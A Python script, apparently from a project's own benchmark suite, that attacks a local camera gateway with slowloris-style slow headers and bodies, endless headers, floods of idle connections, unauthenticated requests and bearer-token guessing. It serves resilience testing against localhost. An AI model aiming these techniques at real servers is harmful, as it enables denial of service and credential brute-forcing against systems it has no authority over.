"""`python -m bench.attack.attacker ATTACK PORT`: attack a gateway until killed.

From another address than the cameras', as strangers have one; without a key, as they have none.
"""

import asyncio
import contextlib
import itertools
import os
import sys
from collections.abc import Awaitable, Callable, Mapping

HERE = ("127.0.0.9", 0)
_RESTS = 0.05
"""Seconds before a connection that was refused or closed is made again."""
_GUESS = "Authorization: Bearer fg_00000000_{:043d}\r\n"
_numbers = itertools.count()

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def stay_silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send nothing until it is closed."""
    await reader.read()


async def send_a_slow_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a head, a byte a second."""
    for byte in itertools.cycle(b"X-Header: 1\r\n"):
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)


async def send_a_slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a request whose body comes a byte a second."""
    writer.write(
        b"POST /v1/members.csv HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n"
    )
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def send_an_endless_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a head as fast as it is taken."""
    writer.write(b"GET / HTTP/1.1\r\n")
    while True:
        writer.write(b"X-Header: " + b"x" * 1_000 + b"\r\n")
        await writer.drain()


async def ask_without_a_key(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask, again and again, for what nobody is told without a key."""
    while True:
        await _asked(reader, writer, "")


async def guess_keys(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask with another wrong key each time."""
    while True:
        await _asked(reader, writer, _GUESS.format(next(_numbers)))


async def _asked(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, more: str) -> None:
    writer.write(f"GET /v1/members HTTP/1.1\r\nHost: localhost\r\n{more}\r\n".encode())
    head = await reader.readuntil(b"\r\n\r\n")
    length = head.lower().partition(b"content-length:")[2].partition(b"\r\n")[0]
    await reader.readexactly(int(length))


ATTACKS: Mapping[str, tuple[Attack, int]] = {
    "1,000 silent connections": (stay_silent, 1000),
    "500 slow heads": (send_a_slow_head, 500),
    "500 slow bodies": (send_a_slow_body, 500),
    "20 heads without end": (send_an_endless_head, 20),
    "20 connections without a key": (ask_without_a_key, 20),
    "20 connections that guess keys": (guess_keys, 20),
}
"""What a connection does, and how many do it."""


async def _keep_at_it(attack: Attack, port: int) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, ValueError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=HERE)
            try:
                await attack(reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(_RESTS)


async def _attack(attack: Attack, connections: int, port: int) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(_keep_at_it(attack, port))


if __name__ == "__main__":
    os.nice(19)  # a stranger has a machine of their own: this one takes what others leave
    asyncio.run(_attack(*ATTACKS[sys.argv[1]], int(sys.argv[2])))
